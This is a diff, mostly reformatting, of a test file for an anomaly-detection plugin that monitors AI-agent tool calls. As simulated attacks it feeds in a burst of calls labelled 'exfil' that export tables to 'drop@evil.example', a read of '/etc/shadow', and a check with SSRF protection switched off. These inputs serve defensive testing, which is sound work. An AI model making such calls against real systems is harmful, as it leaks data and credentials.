@@ -3,8 +3,19 @@
 // Real time throughout: the server is `toolwatch serve` as the CLI starts it, with its own clock.
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import {
-  drive, ensureVenv, mcpIdentity, restIdentity, serve, skipReason, stdioCmd, toolwatchEntry, writeConfig,
-  type CallOutcome, type DriveResult, type Op, type Served,
+  drive,
+  ensureVenv,
+  mcpIdentity,
+  restIdentity,
+  serve,
+  skipReason,
+  stdioCmd,
+  toolwatchEntry,
+  writeConfig,
+  type CallOutcome,
+  type DriveResult,
+  type Op,
+  type Served,
 } from "./harness.js";
 
 const PLUGIN = "ToolCallAnomalyDetection";
@@ -12,8 +23,15 @@ const PLUGIN = "ToolCallAnomalyDetection";
 // Learning shortened to calls, not hours, since a run lasts seconds; a 2 s burst window so a paced
 // stream stays under it. The fixed off-hours window is off so the result does not depend on the hour.
 const DETECTOR = {
-  minCalls: 5, learningWindowSeconds: 0, tenantMinCalls: 5, tenantLearningWindowSeconds: 0,
-  offHoursStart: 0, offHoursEnd: 0, burstWindowSeconds: 2, burstThreshold: 20, anonymous: "refuse",
+  minCalls: 5,
+  learningWindowSeconds: 0,
+  tenantMinCalls: 5,
+  tenantLearningWindowSeconds: 0,
+  offHoursStart: 0,
+  offHoursEnd: 0,
+  burstWindowSeconds: 2,
+  burstThreshold: 20,
+  anonymous: "refuse",
 };
 
 const alice = mcpIdentity("alice@acme.example", "team-tools");
@@ -25,7 +43,14 @@ function routine(rounds: number): Op[] {
   const ops: Op[] = [];
   for (let i = 0; i < rounds; i++) {
     for (const identity of [alice, bob, dave]) {
-      ops.push({ op: "call", tool: i % 2 ? "read_file" : "list_files", args: { path: `/docs/${i % 3}` }, identity, post: true, label: "routine" });
+      ops.push({
+        op: "call",
+        tool: i % 2 ? "read_file" : "list_files",
+        args: { path: `/docs/${i % 3}` },
+        identity,
+        post: true,
+        label: "routine",
+      });
       ops.push({ op: "sleep", ms: 200 });
     }
   }
@@ -39,9 +64,27 @@ function stream(): Op[] {
     { op: "sleep", ms: 2100 },
     { op: "call", tool: "search_wiki", args: { q: "roadmap" }, identity: alice, post: true, label: "new-tool" },
     { op: "call", tool: "search_wiki", args: { q: "roadmap" }, identity: dave, post: true, label: "new-tool-rest" },
-    ...Array.from({ length: 25 }, (_, i): Op => ({ op: "call", tool: `export_table_${i}`, args: { to: "drop@evil.example" }, identity: alice, label: "exfil" })),
-    ...Array.from({ length: 30 }, (): Op => ({ op: "call", tool: "read_file", args: { path: "/docs/1" }, identity: bob, label: "volume" })),
-    { op: "call", tool: "list_files", args: { path: "/" }, identity: { user: "unknown", tenant_id: "team-tools" }, label: "unauthenticated" },
+    ...Array.from(
+      { length: 25 },
+      (_, i): Op => ({
+        op: "call",
+        tool: `export_table_${i}`,
+        args: { to: "drop@evil.example" },
+        identity: alice,
+        label: "exfil",
+      }),
+    ),
+    ...Array.from(
+      { length: 30 },
+      (): Op => ({ op: "call", tool: "read_file", args: { path: "/docs/1" }, identity: bob, label: "volume" }),
+    ),
+    {
+      op: "call",
+      tool: "list_files",
+      args: { path: "/" },
+      identity: { user: "unknown", tenant_id: "team-tools" },
+      label: "unauthenticated",
+    },
     // arguments never reach an external plugin through the gateway's payload policies (see below), so
     // the input the core refuses here is the tool name: over its 256-byte limit
     { op: "call", tool: `lookup_${"x".repeat(300)}`, identity: dave, label: "refused-input" },
@@ -49,7 +92,11 @@ function stream(): Op[] {
 }
 
 const labelled = (ops: Op[], r: DriveResult, label: string): CallOutcome[] =>
-  ops.filter((o) => o.op === "call").map((o, i) => [o, r.ops[i]] as const).filter(([o]) => (o as { label?: string }).label === label).map(([, x]) => x as CallOutcome);
+  ops
+    .filter((o) => o.op === "call")
+    .map((o, i) => [o, r.ops[i]] as const)
+    .filter(([o]) => (o as { label?: string }).label === label)
+    .map(([, x]) => x as CallOutcome);
 
 function checkGatewayStream(ops: Op[], r: DriveResult): void {
   expect(r.init_error).toBeUndefined();
@@ -165,8 +212,17 @@ describe.skipIf(skipReason !== undefined)("ContextForge's plugin manager drives 
     const shapes = (who: string): Op[] => {
       const identity = mcpIdentity(who, "team-args");
       const ops: Op[] = [];
-      for (let i = 0; i < 8; i++) ops.push({ op: "call", tool: "read_file", args: { path: `/docs/${i % 3}` }, identity }, { op: "sleep", ms: 150 });
-      ops.push({ op: "call", tool: "read_file", args: { path: "/etc/shadow", follow_links: true, depth: 9 }, identity });
+      for (let i = 0; i < 8; i++)
+        ops.push(
+          { op: "call", tool: "read_file", args: { path: `/docs/${i % 3}` }, identity },
+          { op: "sleep", ms: 150 },
+        );
+      ops.push({
+        op: "call",
+        tool: "read_file",
+        args: { path: "/etc/shadow", follow_links: true, depth: 9 },
+        identity,
+      });
       return ops;
     };
     const last = (r: DriveResult) => (r.ops.at(-1) as CallOutcome).pre.metadata!.toolwatch;
@@ -174,12 +230,21 @@ describe.skipIf(skipReason !== undefined)("ContextForge's plugin manager drives 
     try {
       const gateway = await drive({ plugins: [toolwatchEntry({ url: own.url })], ops: shapes("ivan@acme.example") });
       expect(last(gateway).signals.unseen_arg_shape).toBe(0);
-      const unpoliced = await drive({ plugins: [toolwatchEntry({ url: own.url })], ops: shapes("judy@acme.example"), policies: false });
+      const unpoliced = await drive({
+        plugins: [toolwatchEntry({ url: own.url })],
+        ops: shapes("judy@acme.example"),
+        policies: false,
+      });
       expect(last(unpoliced).signals.unseen_arg_shape).toBeGreaterThan(0);
       // the server says so in its log once a long run of calls has come without arguments
       const warning = /tool calls all arrived with empty arguments/;
       expect(own.stderr()).not.toMatch(warning);
-      const many: Op[] = Array.from({ length: 100 }, (_, i) => ({ op: "call", tool: "read_file", args: { path: `/docs/${i}` }, identity: mcpIdentity("kim@acme.example", "team-args") }));
+      const many: Op[] = Array.from({ length: 100 }, (_, i) => ({
+        op: "call",
+        tool: "read_file",
+        args: { path: `/docs/${i}` },
+        identity: mcpIdentity("kim@acme.example", "team-args"),
+      }));
       await drive({ plugins: [toolwatchEntry({ url: own.url })], ops: many });
       expect(own.stderr()).toMatch(warning);
     } finally {
@@ -192,7 +257,10 @@ describe.skipIf(skipReason !== undefined)("ContextForge's plugin manager drives 
     const ops: Op[] = [{ op: "call", tool: "list_files", identity: alice }];
     const refused = await drive({ plugins: [toolwatchEntry({ url: literal })], ops });
     expect(refused.config_error).toMatch(/SSRF protection \(127\.0\.0\.1\)/);
-    const allowed = await drive({ plugins: [toolwatchEntry({ url: literal })], ops }, { PLUGINS_SSRF_PROTECTION_ENABLED: "false" });
+    const allowed = await drive(
+      { plugins: [toolwatchEntry({ url: literal })], ops },
+      { PLUGINS_SSRF_PROTECTION_ENABLED: "false" },
+    );
     expect(allowed.loaded).toBe(1);
     expect(allowed.ops[0].pre.metadata.toolwatch.action).toBeTypeOf("string");
   }, 60_000);
